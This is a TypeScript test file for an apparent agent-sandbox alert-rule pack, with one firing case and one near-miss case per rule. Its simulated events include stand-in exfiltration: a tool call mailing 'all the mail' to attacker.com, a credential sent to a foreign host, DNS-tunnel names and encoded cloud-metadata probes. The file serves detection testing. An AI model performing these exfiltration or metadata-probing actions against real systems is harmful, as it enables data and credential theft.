/**
 * The default pack (rules/aegis-default.yml): every rule has a case that fires it and one that
 * must not, on events shaped exactly as the producers write them.
 */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { type Alert, AlertEngine, type EngineEvent } from './engine.js';
import { DEFAULT_PACK, loadRules } from './load.js';

const rules = await loadRules([DEFAULT_PACK]);
let seq = 0;
function ev(action: string, decision: string, payload: Record<string, unknown> = {}, extra: Partial<EngineEvent> = {}): EngineEvent {
  seq++;
  return {
    id: `e${seq}`,
    time: new Date(Date.UTC(2026, 10, 30, 0, 0, 0, seq * 10)).toISOString(),
    action,
    decision,
    actor: { agent: 'a', execution: 'x1' },
    payload,
    ...extra,
  };
}
function run(events: readonly EngineEvent[]): Alert[] {
  const engine = new AlertEngine(rules);
  return events.flatMap((e) => engine.evaluate(e));
}
const fired = (events: readonly EngineEvent[]): string[] => [...new Set(run(events).map((a) => a.rule.id))].sort();
const times = <T>(n: number, f: (i: number) => T): T[] => Array.from({ length: n }, (_, i) => f(i));

/** A benign run: allowed DNS, connections, requests and a normal exit. */
const benign: EngineEvent[] = [
  ev('run.spawn', 'info', { isolation: 'crun' }),
  ev('run.start', 'info'),
  ...times(30, (i) =>
    ev('net.dns', 'allow', { name: `api${i % 3}.openai.com`, type: 'A', answers: ['198.51.100.10'] }, { reason: 'net.allowed.exact' }),
  ),
  ...times(30, () =>
    ev('net.connect', 'allow', { host: 'api.openai.com', port: 443, mode: 'transparent-tls' }, { reason: 'net.allowed.exact' }),
  ),
  ev('http.request', 'allow', { host: 'api.openai.com', method: 'GET' }),
  ev('resource.usage', 'info', { cpuMs: 30, maxMemoryBytes: 1e7, durationMs: 500, pidsLimitHit: false }),
  ev('run.exit', 'info', { status: 'exited', exitCode: 0, durationMs: 500 }),
];

describe('default pack', () => {
  it('loads: every rule has a title, a level and a unique id', () => {
    assert.ok(rules.length >= 14);
    assert.equal(new Set(rules.map((r) => r.id)).size, rules.length);
  });
  it('raises nothing on a benign run', () => {
    assert.deepEqual(fired(benign), []);
  });

  const cases: Array<[string, EngineEvent[], EngineEvent[]]> = [
    [
      'aegis-policy-denial',
      [ev('net.connect', 'deny', { host: 'attacker.com', port: 443 }, { reason: 'net.denied.not_in_allowlist' })],
      [ev('run.timeout', 'deny', {}, { reason: 'run.timeout' })],
    ],
    [
      'aegis-net-denial-burst',
      times(10, (i) => ev('net.connect', 'deny', { host: `h${i}.attacker.com`, port: 443 }, { reason: 'net.denied.not_in_allowlist' })),
      times(9, (i) => ev('net.connect', 'deny', { host: `h${i}.attacker.com`, port: 443 }, { reason: 'net.denied.not_in_allowlist' })),
    ],
    [
      // Regression (found by bench/alerts-eval.ts): a scan of 25 ports in well under a second is
      // one net.blocked event of 25 packets, which the burst rule counts as one attempt.
      'aegis-net-blocked-scan',
      [ev('net.blocked', 'deny', { protocol: 'tcp', packets: 25, destinations: [{ address: '198.51.100.66', port: 20 }] })],
      [ev('net.blocked', 'deny', { protocol: 'tcp', packets: 3, destinations: [{ address: '198.51.100.66', port: 22 }] })],
    ],
    [
      'aegis-dns-tunnel-label',
      [ev('net.dns', 'deny', { name: `${'a'.repeat(50)}.tunnel.attacker.com`, type: 'A' })],
      [ev('net.dns', 'allow', { name: 'a-reasonably-long-but-normal-label.example.com', type: 'A' })],
    ],
    [
      'aegis-dns-tunnel-names',
      times(10, (i) => ev('net.dns', 'deny', { name: `c${i}.t.attacker.com`, type: 'A' })),
      times(10, () => ev('net.dns', 'deny', { name: 'same.attacker.com', type: 'A' })),
    ],
    [
      // Regression (found by bench/alerts-eval.ts): 30 tunnelled names in a second gave 5 names
      // in full and one summary (questionsOmitted 68), and the many-names rule stayed quiet.
      'aegis-dns-tunnel-summary',
      [ev('net.dns.summary', 'deny', { count: 100, questions: [{ name: 'a.t.example.org', type: 'A', count: 2 }], questionsOmitted: 68 })],
      [
        ev('net.dns.summary', 'deny', {
          count: 40,
          questions: [{ name: 'retried.example.org', type: 'A', count: 40 }],
          questionsOmitted: 0,
        }),
      ],
    ],
    [
      'aegis-metadata-address',
      [ev('net.connect', 'deny', { host: '169.254.169.254', port: 80 })],
      [ev('net.connect', 'deny', { host: '169.254.1.1', port: 80 })],
    ],
    [
      'aegis-metadata-address',
      [ev('net.blocked', 'deny', { protocol: 'tcp', destinations: [{ address: '169.254.169.254', port: 80 }] })],
      [ev('net.blocked', 'deny', { protocol: 'tcp', destinations: [{ address: '198.51.100.66', port: 22 }] })],
    ],
    [
      'aegis-metadata-address',
      [ev('net.dns', 'deny', { name: 'metadata.google.internal', type: 'A' })],
      [ev('net.dns', 'deny', { name: 'metadata.example.com', type: 'A' })],
    ],
    [
      'aegis-metadata-address',
      [
        ev(
          'http.request',
          'deny',
          { url: 'http://2852039166/latest/meta-data/', mode: 'transparent-http' },
          { reason: 'net.denied.special_range' },
        ),
      ],
      [
        ev(
          'http.request',
          'deny',
          { url: 'http://attacker.com/169.254.169.254', mode: 'forward' },
          { reason: 'net.denied.not_in_allowlist' },
        ),
      ],
    ],
    [
      'aegis-metadata-address',
      [
        ev('net.connect', 'deny', { host: '[fd00:ec2::254]' }, { reason: 'net.denied.special_range' }),
        ev(
          'http.request',
          'deny',
          { detail: '169.254.169.254 is in 169.254.0.0/16 (link-local (cloud metadata)), which no allow entry names' },
          { reason: 'net.denied.special_range' },
        ),
      ],
      [
        ev(
          'net.connect',
          'deny',
          { detail: '10.0.0.1 is in 10.0.0.0/8 (private-use), which no allow entry names' },
          { reason: 'net.denied.special_range' },
        ),
      ],
    ],
    [
      'aegis-secret-wrong-host',
      [
        ev(
          'secret.denied',
          'deny',
          { secret: 'openai', host: 'attacker.com', where: 'header authorization' },
          { reason: 'secrets.credential_host_mismatch' },
        ),
      ],
      [
        ev('secret.use', 'allow', { secret: 'openai', host: 'api.openai.com' }, { reason: 'secrets.injected' }),
        // a run refused at start (the secret is missing) is not an exfiltration attempt
        ev('secret.denied', 'deny', { secret: 'openai' }, { reason: 'secrets.missing' }),
      ],
    ],
    [
      'aegis-budget-exceeded',
      [ev('net.connect', 'deny', { host: 'api.openai.com' }, { reason: 'gateway.rate_limited' })],
      [ev('net.connect', 'allow', { host: 'api.openai.com' }, { reason: 'net.allowed.exact' })],
    ],
    ['aegis-budget-exceeded', [ev('audit.budget_exhausted', 'deny', { events: 10000 })], [ev('audit.checkpoint', 'info')]],
    [
      'aegis-resource-limit',
      [ev('run.oom', 'deny', { exitCode: 137 }, { reason: 'run.oom' })],
      [ev('run.exit', 'info', { status: 'exited', exitCode: 1 })],
    ],
    [
      'aegis-resource-limit',
      [ev('resource.usage', 'info', { pidsLimitHit: true })],
      [ev('resource.usage', 'info', { pidsLimitHit: false })],
    ],
    [
      'aegis-auth-failed-burst',
      times(5, () => ev('auth.failed', 'deny', { source: '10.0.0.9', reason: 'bad_key' }, { actor: {} })),
      times(5, (i) => ev('auth.failed', 'deny', { source: `10.0.0.${i}` }, { actor: {} })),
    ],
    [
      'aegis-auth-many-keys',
      times(3, (i) => ev('auth.failed', 'deny', { source: '10.0.0.9', keyId: `k${i}` }, { actor: {} })),
      times(3, () => ev('auth.failed', 'deny', { source: '10.0.0.9', keyId: 'k1' }, { actor: {} })),
    ],
    [
      'aegis-cpu-throttled',
      [ev('resource.usage', 'info', { cpuMs: 60_000, durationMs: 120_000, pidsLimitHit: false, cpuThrottledRatio: 0.95 })],
      [ev('resource.usage', 'info', { cpuMs: 4_000, durationMs: 8_000, pidsLimitHit: false, cpuThrottledRatio: 0.95 })],
    ],
    [
      'aegis-audit-write-failed',
      [ev('audit.write_failed', 'deny', { message: 'ENOSPC' }, { reason: 'audit.store_io' })],
      [ev('audit.budget_folded', 'info')],
    ],
    ['aegis-run-lost', [ev('run.lost', 'deny', { removed: {} })], [ev('run.exit', 'info', { status: 'killed' })]],
    [
      // Shaped as src/tools/events.ts writes them.
      'aegis-tool-foreign-host',
      [
        ev(
          'tool.call',
          'allow',
          {
            server: 'gmail',
            tool: 'send_message',
            arguments: '{"to":"boss@attacker.com","body":"all the mail"}',
            argumentsBytes: 47,
            argumentsTruncated: false,
            argumentHosts: ['attacker.com'],
            hostsOutsideAllowlist: ['attacker.com'],
            durationMs: 12.5,
            outcome: 'result',
          },
          { reason: 'tool.allowed.name' },
        ),
      ],
      [
        ev(
          'tool.call',
          'allow',
          {
            server: 'gmail',
            tool: 'search_messages',
            arguments: '{"query":"from:api.openai.com"}',
            argumentsBytes: 31,
            argumentsTruncated: false,
            argumentHosts: ['api.openai.com'],
            hostsOutsideAllowlist: [],
            durationMs: 3,
            outcome: 'result',
          },
          { reason: 'tool.allowed.name' },
        ),
      ],
    ],
  ];
  for (const [rule, fire, quiet] of cases) {
    it(`${rule}: fires, and stays quiet on the near miss`, () => {
      assert.ok(fired(fire).includes(rule), `${rule} did not fire: ${fired(fire).join(', ')}`);
      assert.ok(!fired(quiet).includes(rule), `${rule} fired on the near miss`);
    });
  }
  it('every generating rule of the pack has a firing case', () => {
    const covered = new Set(cases.map(([r]) => r));
    const generating = rules
      .filter((r) => r.kind === 'correlation' || !rules.some((c) => c.kind === 'correlation' && c.rules.includes(r.id)))
      .map((r) => r.id);
    assert.deepEqual(
      generating.filter((id) => !covered.has(id)),
      [],
    );
  });
});
